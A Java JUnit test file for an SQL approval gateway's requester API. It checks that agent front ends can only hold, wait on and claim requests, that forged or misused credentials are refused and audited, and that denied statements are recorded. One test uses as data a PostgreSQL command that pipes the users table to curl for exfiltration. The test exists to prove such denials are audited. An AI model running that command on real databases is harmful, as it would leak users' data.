package dev.gatehouse.approvals.http;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.gatehouse.approvals.ApprovalService;
import dev.gatehouse.approvals.DecisionAudit;
import dev.gatehouse.approvals.Outcome;
import dev.gatehouse.approvals.RequestState;
import dev.gatehouse.approvals.RequesterPort;
import dev.gatehouse.approvals.ServiceOptions;
import dev.gatehouse.approvals.Source;
import dev.gatehouse.approvals.Submission;
import dev.gatehouse.approvals.Submissions;
import dev.gatehouse.approvals.TestStores;
import dev.gatehouse.approvals.audit.AuditSettings;
import dev.gatehouse.approvals.audit.AuditText;
import dev.gatehouse.approvals.audit.AuditVerifier;
import dev.gatehouse.approvals.audit.CanonicalJson;
import dev.gatehouse.approvals.people.TokenStore;
import dev.gatehouse.approvals.requester.RemoteRequester;
import dev.gatehouse.approvals.store.Json;
import dev.gatehouse.approvals.store.Store;
import dev.gatehouse.approvals.store.StoreRefusedException;
import dev.gatehouse.policy.Action;
import dev.gatehouse.sql.Dialect;
import java.io.StringWriter;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/**
 * Issue 14 at serve's API, over real HTTP on loopback and a real H2 store: a front end with a requester credential
 * holds, waits on and claims requests through {@link RemoteRequester} and can do nothing else (every attempt
 * refused and audited); who sees which request and which bound values; denials of any size and any text audited
 * through the API.
 */
class RequesterApiTest {
    private static TestStores ts;
    private static Store store;
    private static ApprovalService service;
    private static ApiServer server;
    private static TokenStore tokens;
    private static final HttpClient HTTP = HttpClient.newHttpClient();
    private static String alice;
    private static String sam;
    private static String root;
    private static String dave;
    private static String driver;
    private static RemoteRequester remote;

    @BeforeAll
    static void start() throws Exception {
        ts = TestStores.h2();
        store = ts.open();
        service = new ApprovalService(store, Submissions.APPROVERS, ServiceOptions.defaults(), null);
        tokens = new TokenStore(store);
        alice = tokens.issue("alice"); // dba and security
        sam = tokens.issue("sam"); // security only
        dave = tokens.issue("dave"); // in no group: the human agent-7 acts for
        root = tokens.issuePerson("root", true, false).token();
        driver = tokens.issueRequester("driver-1", List.of("agent-*"), false).token();
        server = new ApiServer(service, tokens, null, null, new InetSocketAddress("127.0.0.1", 0)).start();
        remote = new RemoteRequester(base(), driver, null, AuditSettings.DEFAULT);
    }

    @AfterAll
    static void stop() {
        remote.close();
        server.close();
        service.close();
        store.close();
        ts.drop();
    }

    private static String base() {
        return "http://127.0.0.1:" + server.port();
    }

    private static HttpResponse<String> send(String method, String path, String token, String body) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(base() + path))
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body));
        if (token != null) {
            b.header("Authorization", "Bearer " + token);
        }
        return HTTP.send(b.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static Submission held(String principal, String sql, Set<String> groups, List<String> params) {
        return Submissions.of(principal, "dave", sql, params, Submissions.spec(groups, 1, Duration.ofMinutes(15),
                Duration.ofMinutes(15)));
    }

    /** The audit's records, as export writes them. */
    private static List<String> audit() {
        StringWriter out = new StringWriter();
        AuditVerifier.export(store, out);
        return out.toString().lines().toList();
    }

    @Test
    void aFrontEndHoldsWaitsAndClaimsThroughTheRequesterApiAlone() throws Exception {
        Submission s = held("agent-7", "delete from orders where id = $1", Set.of("dba"), List.of("5"));
        RequesterPort.Opened opened = remote.open(s);
        assertFalse(opened.joined());
        assertTrue(remote.open(s).joined(), "the identical submission joins the pending request");
        assertInstanceOf(Outcome.TimedOut.class, remote.await(opened.requestId(), Duration.ofMillis(300)));
        assertEquals(Optional.empty(), remote.claimApproved(s), "nothing approved yet");
        assertFalse(remote.claim(opened.requestId(), s), "a pending request cannot be claimed");

        long[] released = new long[1];
        CompletableFuture<Outcome> waiting = CompletableFuture.supplyAsync(() -> {
            try {
                Outcome o = remote.await(opened.requestId(), Duration.ofSeconds(20));
                released[0] = System.nanoTime();
                return o;
            } catch (InterruptedException e) {
                throw new IllegalStateException(e);
            }
        });
        Thread.sleep(200);
        long voted = System.nanoTime();
        assertEquals(200, send("POST", "/api/requests/" + opened.requestId() + "/approve", alice, "{}").statusCode());
        assertInstanceOf(Outcome.Approved.class, waiting.get(10, TimeUnit.SECONDS));
        assertTrue((released[0] - voted) < 2_000_000_000L, "released by the vote, not by a poll");
        Submission other = held("agent-7", "delete from orders where id = $1", Set.of("dba"), List.of("6"));
        assertFalse(remote.claim(opened.requestId(), other), "an approval runs only its own scope");
        assertTrue(remote.claim(opened.requestId(), s), "claimed once");
        assertFalse(remote.claim(opened.requestId(), s), "and never twice");

        // FAIL mode: the client re-sends after approval; the identical submission claims it.
        Submission again = held("agent-8", "update orders set state = 'x'", Set.of("dba"), List.of());
        String id = remote.open(again).requestId();
        assertEquals(200, send("POST", "/api/requests/" + id + "/approve", alice, "{}").statusCode());
        assertEquals(Optional.of(id), remote.claimApproved(again));
        assertEquals(Optional.empty(), remote.claimApproved(again));

        String withdrawn = remote.open(held("agent-8", "truncate orders", Set.of("dba"), List.of())).requestId();
        assertTrue(remote.withdraw(withdrawn, "the client stopped waiting"));
        assertEquals(RequestState.WITHDRAWN, service.find(withdrawn).orElseThrow().state());
    }

    /**
     * Rows (issue 13) through the requester API: what a held write would touch crosses both ways, as the embedded
     * service keeps it. Opening stores the impact; joining answers the first submitter's; the approvals of a scope
     * are listed with what their approvers saw, only to a credential of their principal; an impact the API cannot
     * read is refused, never taken as none.
     */
    @Test
    void whatAHeldWriteWouldTouchCrossesTheRequesterApi() throws Exception {
        dev.gatehouse.approvals.Impact counted = dev.gatehouse.approvals.Impact.measured(30);
        dev.gatehouse.approvals.Impact estimated = dev.gatehouse.approvals.Impact.estimated(1200, 35.25, "EXPLAIN on PostgreSQL");
        Submission s = held("agent-30", "delete from orders where id > $1", Set.of("dba"), List.of("5")).withImpact(counted);
        RequesterPort.Opened opened = remote.open(s);
        assertEquals(counted, opened.impact(), "the opened request's impact comes back");
        assertEquals(counted, service.find(opened.requestId()).orElseThrow().impact(), "and the store keeps it");
        RequesterPort.Opened joined = remote.open(s.withImpact(estimated));
        assertTrue(joined.joined());
        assertEquals(counted, joined.impact(), "a joined request answers what its first submitter counted");
        assertEquals(List.of(), remote.approvedFor(s), "nothing approved yet");

        assertEquals(200, send("POST", "/api/requests/" + opened.requestId() + "/approve", alice, "{}").statusCode());
        assertEquals(List.of(new RequesterPort.Approval(opened.requestId(), counted)), remote.approvedFor(s.withImpact(null)),
                "listed with what its approvers saw (the impact is not part of the scope)");
        assertEquals(service.approvedFor(s), remote.approvedFor(s), "as the embedded service lists them");
        assertEquals(List.of(), remote.approvedFor(held("agent-30", "delete from orders where id > $1", Set.of("dba"),
                List.of("6"))), "another scope has none");

        Submission unknown = held("agent-31", "delete from orders", Set.of("dba"), List.of())
                .withImpact(dev.gatehouse.approvals.Impact.unknown("it calls functions"));
        RequesterPort.Opened noCount = remote.open(unknown);
        assertEquals(unknown.impact(), noCount.impact(), "an unknown impact keeps why");
        assertEquals(null, remote.open(held("agent-32", "delete from items", Set.of("dba"), List.of())).impact(),
                "a front end that tells nothing shows nothing");

        String key = dev.gatehouse.approvals.RequestKey.of(s);
        String approved = "/api/requester/approved";
        assertEquals(403, send("POST", approved, driver, "{\"principal\":\"etl\",\"key\":\"" + key + "\"}").statusCode(),
                "a principal out of the credential's scope");
        JsonNode theirs = Json.MAPPER.readTree(send("POST", approved, driver,
                "{\"principal\":\"agent-99\",\"key\":\"" + key + "\"}").body());
        assertEquals(0, theirs.get("approvals").size(), "another principal's key lists nothing");
        assertEquals(403, send("POST", approved, alice, "{\"principal\":\"agent-30\",\"key\":\"" + key + "\"}").statusCode(),
                "an approver's token has no requester route");

        Map<String, Object> bad = new java.util.LinkedHashMap<>(dev.gatehouse.approvals.requester.RequesterWire.submission(
                held("agent-33", "delete from carts", Set.of("dba"), List.of())));
        for (Object impact : List.of(Map.of("basis", "guessed", "rows", 1), Map.of("basis", "measured", "rows", -1),
                Map.of("basis", "measured"), Map.of("basis", "measured", "rows", "30"), "30 rows")) {
            bad.put("impact", impact);
            HttpResponse<String> r = send("POST", "/api/requester/open", driver, Json.MAPPER.writeValueAsString(bad));
            assertEquals(400, r.statusCode(), impact + ": " + r.body());
        }
        assertTrue(service.list(RequestState.PENDING, "agent-33", 500).isEmpty(),
                "no request was opened from an unreadable impact");
    }

    /**
     * Whatever else a requester credential tries is refused and audited; so is a person's token on the requester
     * API. None of it changes a request.
     */
    @TestFactory
    Stream<DynamicTest> aRequesterCredentialCanDoNothingElse() throws Exception {
        String mine = remote.open(held("agent-9", "delete from invoices", Set.of("dba"), List.of())).requestId();
        String theirs = service.open(held("etl", "delete from invoices", Set.of("dba"), List.of())).requestId();
        String submission = new String(dev.gatehouse.approvals.requester.RequesterWire.write(
                dev.gatehouse.approvals.requester.RequesterWire.submission(held("etl", "drop table x", Set.of(), List.of()))));
        record Case(String name, String method, String path, String token, String body, int status) {
        }
        return Stream.of(
                        new Case("approve its own request", "POST", "/api/requests/" + mine + "/approve", driver, "{}", 403),
                        new Case("deny another's request", "POST", "/api/requests/" + theirs + "/deny", driver, "{}", 403),
                        new Case("read hook status", "GET", "/api/hooks", driver, null, 403),
                        new Case("edit a request", "PUT", "/api/requests/" + mine, driver, "{\"state\":\"approved\"}", 404),
                        new Case("delete a request", "DELETE", "/api/requests/" + mine, driver, null, 404),
                        new Case("edit a vote", "PATCH", "/api/requests/" + mine + "/votes/alice", driver, "{}", 404),
                        new Case("mint a token", "POST", "/api/tokens", driver, "{\"name\":\"bob\"}", 404),
                        new Case("rewrite the audit", "POST", "/api/audit", driver, "{}", 404),
                        new Case("open for a principal out of scope", "POST", "/api/requester/open", driver, submission, 403),
                        new Case("wait on another principal's request", "GET", "/api/requester/requests/" + theirs + "/outcome", driver, null, 404),
                        new Case("withdraw another principal's request", "POST", "/api/requester/requests/" + theirs + "/withdraw", driver, "{}", 404),
                        new Case("claim another principal's request", "POST", "/api/requester/requests/" + theirs + "/claim", driver, "{\"key\":\"k\"}", 404),
                        new Case("an approver's token on the requester API", "POST", "/api/requester/open", alice, submission, 403),
                        new Case("a forged requester credential", "POST", "/api/requester/open",
                                driver.substring(0, driver.indexOf('.') + 1) + "AAAA", submission, 401),
                        new Case("a signed decision without the secret", "POST", "/hooks/decision", null,
                                "{\"request_id\":\"" + mine + "\",\"approver\":\"alice\",\"decision\":\"approve\"}", 401))
                .map(c -> DynamicTest.dynamicTest(c.name(), () -> {
                    int before = audit().size();
                    HttpResponse<String> r = send(c.method(), c.path(), c.token(), c.body());
                    assertEquals(c.status(), r.statusCode(), r.body());
                    List<String> records = audit();
                    assertEquals(before + 1, records.size(), "one record, of the refusal: " + records.subList(before, records.size()));
                    Map<String, Object> refused = CanonicalJson.read(records.get(records.size() - 1));
                    assertEquals("access.refused", refused.get("type"));
                    @SuppressWarnings("unchecked")
                    Map<String, Object> data = (Map<String, Object>) refused.get("data");
                    assertEquals(c.status(), data.get("status"));
                    assertEquals(c.method(), data.get("method"));
                    assertEquals(URI.create(base() + c.path()).getPath(), data.get("path"));
                    if (c.token() == driver) {
                        assertEquals("driver-1", data.get("name"));
                        assertEquals("requester", data.get("credential"));
                    }
                    assertEquals(RequestState.PENDING, service.find(mine).orElseThrow().state());
                    assertEquals(RequestState.PENDING, service.find(theirs).orElseThrow().state());
                    assertTrue(service.find(mine).orElseThrow().votes().isEmpty());
                }));
    }

    @Test
    void aRequesterCredentialCannotSignInToThePage() throws Exception {
        HttpResponse<String> page = HTTP.send(HttpRequest.newBuilder(URI.create(base() + "/"))
                .header("Cookie", "gatehouse_token=" + driver).GET().build(), HttpResponse.BodyHandlers.ofString());
        assertEquals(200, page.statusCode());
        assertTrue(page.body().contains("id=\"refused\"") && page.body().contains("id=\"login\""), page.body());
        assertThrows(StoreRefusedException.class, () -> new RemoteRequester(base(), "ghr_" + alice.substring(4), null,
                AuditSettings.DEFAULT).open(held("agent-1", "select 1", Set.of(), List.of())),
                "an approver's secret under the requester prefix is no credential");
    }

    /**
     * Who sees what: approvers the requests they may vote on (any state) and their own, an admin all, a requester
     * credential its principals'; bound values only for those who may vote and who asked.
     */
    @TestFactory
    Stream<DynamicTest> everyoneSeesWhatTheyMayAndValuesOnlyWhereTheyMayVote() throws Exception {
        String dbaOnly = service.open(held("agent-20", "select ssn from users where id = $1", Set.of("dba"), List.of("123-45-6789"))).requestId();
        String securityOnly = service.open(held("agent-21", "select key from secrets where id = $1", Set.of("security"), List.of("k1"))).requestId();
        String anyApprover = service.open(held("agent-22", "delete from logs where at < $1", Set.of(), List.of("2020"))).requestId();
        String etl = service.open(Submissions.of("etl", null, "truncate staging", List.of(), Submissions.dba(1))).requestId();
        service.vote(anyApprover, "alice", dev.gatehouse.approvals.Vote.Choice.DENY, "no", "api");
        Set<String> mine = Set.of(dbaOnly, securityOnly, anyApprover, etl);
        record Case(String name, String token, Set<String> sees, Set<String> seesValues) {
        }
        return Stream.of(
                        new Case("an approver in dba and security", alice, Set.of(dbaOnly, securityOnly, anyApprover, etl),
                                Set.of(dbaOnly, securityOnly, anyApprover, etl)),
                        new Case("an approver in security only", sam, Set.of(securityOnly, anyApprover),
                                Set.of(securityOnly, anyApprover)),
                        new Case("the human the agents act for (no group)", dave, Set.of(dbaOnly, securityOnly, anyApprover),
                                Set.of(dbaOnly, securityOnly, anyApprover)),
                        new Case("an admin", root, mine, Set.of()),
                        new Case("a requester credential for agent-*", driver, Set.of(dbaOnly, securityOnly, anyApprover), Set.of()))
                .map(c -> DynamicTest.dynamicTest(c.name(), () -> {
                    JsonNode list = Json.MAPPER.readTree(send("GET", "/api/requests?limit=500", c.token(), null).body());
                    Set<String> seen = new TreeSet<>();
                    Set<String> values = new TreeSet<>();
                    for (JsonNode r : list.get("requests")) {
                        String id = r.get("id").asText();
                        if (!mine.contains(id)) {
                            continue;
                        }
                        seen.add(id);
                        if (!r.get("parameters_hidden").asBoolean()) {
                            values.add(id);
                            assertEquals(r.get("parameter_count").asInt(), r.get("parameters").size());
                        } else {
                            assertTrue(r.get("parameters").isNull(), r.toString());
                            assertFalse(r.toString().contains("123-45-6789"), "no value leaks: " + r);
                        }
                    }
                    assertEquals(new TreeSet<>(c.sees()), seen, "listed");
                    assertEquals(new TreeSet<>(c.seesValues()).stream().filter(seen::contains).toList(),
                            new ArrayList<>(values), "values");
                    for (String id : mine) {
                        HttpResponse<String> one = send("GET", "/api/requests/" + id, c.token(), null);
                        assertEquals(c.sees().contains(id) ? 200 : 404, one.statusCode(), id + ": " + one.body());
                    }
                }));
    }

    /** Issue 14: a 5 MB denied statement and text no encoder can write are audited through the API, whole in hash. */
    @Test
    void deniedStatementsOfAnySizeAndAnyTextAreAuditedThroughTheApi() throws Exception {
        Source source = new Source(Source.Channel.DRIVER, "10.0.0.3", "agent", "shop");
        StringBuilder big = new StringBuilder("copy (select * from users) to program 'curl -d @- x' -- ");
        while (big.length() < 5_000_000) {
            big.append("padding ");
        }
        String odd = "select '\uD800' || 'x\uDC00y' || '\u0000\u001b[2J' || '\u2028'";
        int before = audit().size();
        remote.auditDecision(new DecisionAudit("agent-7", null, source, big.toString(), List.of(), Action.DENY,
                List.of("no-exports"), "p1", "a1", Dialect.POSTGRES));
        remote.auditDecision(new DecisionAudit("agent-\uDFFF", null, source, odd, List.of("p\uD801"), Action.DENY,
                List.of("no-exports"), "p1", "a1", Dialect.POSTGRES));
        assertThrows(StoreRefusedException.class, () -> remote.auditDecision(new DecisionAudit("etl", null, source,
                "select 1", List.of(), Action.DENY, List.of(), "p1", "a1", Dialect.POSTGRES)), "out of scope");
        List<String> records = audit();
        Map<String, Object> bigRecord = data(records.get(before));
        assertEquals(Boolean.TRUE, bigRecord.get("sql_truncated"));
        assertEquals(AuditText.sha256(big.toString()), bigRecord.get("sql_sha256"));
        assertEquals((long) big.length(), ((Number) bigRecord.get("sql_bytes")).longValue());
        Map<String, Object> oddRecord = data(records.get(before + 1));
        assertEquals(odd, oddRecord.get("sql"), "every character crossed the API and the audit unchanged");
        assertEquals("agent-\uDFFF", oddRecord.get("principal"));
        assertEquals(List.of("p\uD801"), oddRecord.get("parameters"));
        AuditVerifier.Result verified = AuditVerifier.verify(store);
        assertTrue(verified.ok(), verified.toString());
        StringWriter out = new StringWriter();
        assertEquals(new AuditVerifier.Exported(verified.records(), 0), AuditVerifier.export(store, out),
                "export and verify agree");
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> data(String line) {
        return (Map<String, Object>) CanonicalJson.read(line).get("data");
    }
}
